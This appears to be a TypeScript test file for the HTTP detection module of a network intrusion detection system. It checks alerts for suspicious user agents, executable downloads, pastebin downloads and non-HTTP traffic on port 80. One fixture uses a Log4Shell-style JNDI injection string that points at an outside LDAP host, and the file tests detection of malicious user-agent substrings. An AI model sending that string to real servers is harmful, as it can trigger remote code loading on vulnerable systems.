// http_analyzer detections.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { HttpAnalyzer } from '../../../src/detect/http_analyzer/http.ts';
import { conn, detectionContext } from '../../helpers/flows.ts';
import { descriptions, dns, feed, http, weird } from '../flow_alerts/records.ts';

const setup = () => { const ctx = detectionContext(); return { ctx, d: new HttpAnalyzer(ctx) }; };
const WIN7_IE = 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)';
const IPHONE = 'Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.0 Mobile/15E148 Safari/604.1';

test('HTTP_TRAFFIC for every http.log record', () => {
  const { ctx, d } = setup();
  feed(ctx, [d], [http(), http()]);
  assert.deepEqual(descriptions(ctx, 'HTTP_TRAFFIC'), Array(2).fill('Unencrypted HTTP traffic from 192.168.1.5 to 1.2.3.4.'));
  assert.equal(ctx.evidence[0]!.threat_level, 'info');
});

test('SUSPICIOUS_USER_AGENT: known malicious substrings; "pb" only as a word', () => {
  const { ctx, d } = setup();
  feed(ctx, [d], [http({ user_agent: '${jndi:ldap://xyz.xyz.com:39356/a}', host: 'x.example', uri: '/a' }), http({ user_agent: 'HTTPSEND' }),
    http({ user_agent: 'pb' }), http({ user_agent: 'DropboxDesktopClient/1.0' }), http({ user_agent: WIN7_IE })]);
  assert.deepEqual(descriptions(ctx, 'SUSPICIOUS_USER_AGENT'), ['Suspicious user-agent: ${jndi:ldap://xyz.xyz.com:39356/a} while connecting to x.example/a',
    'Suspicious user-agent: HTTPSEND while connecting to example.com/index.html', 'Suspicious user-agent: pb while connecting to example.com/index.html']);
  assert.equal(ctx.evidence.find((e) => e.evidence_type === 'SUSPICIOUS_USER_AGENT')!.threat_level, 'high');
});

test('EMPTY_CONNECTIONS: the 4th empty GET / to a search engine', () => {
  const { ctx, d } = setup();
  feed(ctx, [d], [1, 2, 3].map((i) => http({ uid: `E${i}`, host: i === 2 ? 'www.bing.com' : 'bing.com', uri: '/' })));
  assert.deepEqual(descriptions(ctx, 'EMPTY_CONNECTIONS'), []);
  feed(ctx, [d], [http({ uid: 'E4', host: 'bing.com', uri: '/', request_body_len: 5 }), http({ uid: 'E5', host: 'bing.com', uri: '/' })]);
  assert.deepEqual(descriptions(ctx, 'EMPTY_CONNECTIONS'), ['Multiple empty HTTP connections to bing.com']);
  assert.deepEqual(ctx.evidence.find((e) => e.evidence_type === 'EMPTY_CONNECTIONS')!.uid, ['E1', 'E2', 'E3', 'E5']);
});

test('MULTIPLE_USER_AGENT: a later agent of another operating system than the first', () => {
  const { ctx, d } = setup();
  feed(ctx, [d], [http({ user_agent: WIN7_IE }), http({ user_agent: 'Microsoft-CryptoAPI/6.1' }),
    http({ user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/120.0' }), http({ user_agent: IPHONE }), http({ user_agent: IPHONE })]);
  assert.deepEqual(descriptions(ctx, 'MULTIPLE_USER_AGENT'), [`Using multiple user-agents: "${WIN7_IE}" then "${IPHONE}"`]);
});

test('EXECUTABLE_MIME_TYPE twins', () => {
  const { ctx, d } = setup();
  feed(ctx, [d], [http({ resp_mime_types: ['application/x-dosexec'] }), http({ resp_mime_types: ['text/html'] })]);
  assert.deepEqual(descriptions(ctx, 'EXECUTABLE_MIME_TYPE'), Array(2).fill("Download of an executable with MIME type: ['application/x-dosexec'] by 192.168.1.5 from 1.2.3.4."));
  assert.deepEqual(ctx.evidence.filter((e) => e.evidence_type === 'EXECUTABLE_MIME_TYPE').map((e) => [e.attacker.direction, e.threat_level]), [['SRC', 'low'], ['DST', 'low']]);
});

test('INCOMPATIBLE_USER_AGENT: an Apple agent from a non-Apple MAC', () => {
  const { ctx, d } = setup();
  ctx.store.ensureProfile('192.168.1.5', 1000)[0].mac = '08:00:27:aa:bb:cc'; // PCS Systemtechnik (VirtualBox)
  feed(ctx, [d], [http({ user_agent: IPHONE, host: 'h.example', uri: '/' })]);
  assert.deepEqual(descriptions(ctx, 'INCOMPATIBLE_USER_AGENT'), [
    `using incompatible user-agent (${IPHONE}) that belongs to OS: ios type: ios 16.0 browser: mobile safari 16. while connecting to h.example/. IP has MAC vendor: Pcs systemtechnik gmbh`]);
  const apple = setup();
  apple.ctx.store.ensureProfile('192.168.1.5', 1000)[0].mac = 'f0:18:98:00:00:01'; // Apple
  feed(apple.ctx, [apple.d], [http({ user_agent: IPHONE })]);
  assert.deepEqual(descriptions(apple.ctx, 'INCOMPATIBLE_USER_AGENT'), []);
  const win = setup();
  win.ctx.store.ensureProfile('192.168.1.5', 1000)[0].mac = 'f0:18:98:00:00:01';
  feed(win.ctx, [win.d], [http({ user_agent: WIN7_IE })]);
  assert.equal(descriptions(win.ctx, 'INCOMPATIBLE_USER_AGENT').length, 1, 'Windows agent from an Apple MAC');
});

test('PASTEBIN_DOWNLOAD over HTTP: GET, response above the threshold, host known as pastebin', () => {
  const { ctx, d } = setup();
  feed(ctx, [d], [http({ host: 'pastebin.com', response_body_len: 701 }), http({ host: 'pastebin.com', response_body_len: 700 }),
    http({ host: 'pastebin.com', method: 'POST', response_body_len: 5000 }),
    dns({ query: 'pastebin.com', answers: ['104.20.67.143'] }), http({ daddr: '104.20.67.143', host: '104.20.67.143', response_body_len: 1_234_567 })]);
  assert.deepEqual(descriptions(ctx, 'PASTEBIN_DOWNLOAD'), ['A downloaded file from pastebin.com. Size: 0.0 MBs', 'A downloaded file from pastebin.com. Size: 1.23 MBs']);
});

test('WEIRD_HTTP_METHOD from weird.log, with the connection of the same uid', () => {
  const { ctx, d } = setup();
  feed(ctx, [d], [conn({ uid: 'W1', dport: 80, daddr: '5.5.5.5' }), weird({ uid: 'W1' }), weird({ uid: 'W1', name: 'bad_HTTP_request' }),
    weird({ uid: 'W2', addl: 'FOO' }), conn({ uid: 'W2', dport: 8080, daddr: '6.6.6.6' })]);
  assert.deepEqual(descriptions(ctx, 'WEIRD_HTTP_METHOD'), ['Weird HTTP method BADMETHOD to IP: 5.5.5.5. by Zeek.', 'Weird HTTP method FOO to IP: 6.6.6.6. by Zeek.']);
  assert.deepEqual([ctx.evidence[0]!.threat_level, ctx.evidence[0]!.confidence], ['medium', 0.9]);
});

test('NON_HTTP_PORT_80_CONNECTION twins, with the 5-minute correlation', () => {
  const { ctx, d } = setup();
  feed(ctx, [d], [conn({ uid: 'N1', dport: 80, daddr: '194.132.197.198' }), conn({ uid: 'H1', dport: 80, daddr: '5.5.5.5', starttime: 1000 }),
    http({ daddr: '5.5.5.5', starttime: 1100 }), conn({ uid: 'N2', dport: 80, daddr: '5.5.5.5', starttime: 1200 })], { end: true });
  assert.deepEqual(descriptions(ctx, 'NON_HTTP_PORT_80_CONNECTION'), ['non-HTTP established connection to port 80. destination IP: 194.132.197.198',
    'non-HTTP established connection to port 80. from IP: 192.168.1.5']);
  assert.deepEqual(ctx.evidence.filter((e) => e.evidence_type === 'NON_HTTP_PORT_80_CONNECTION').map((e) => [e.attacker.direction, e.threat_level, e.confidence]),
    [['SRC', 'low', 0.8], ['DST', 'medium', 0.8]]);
});
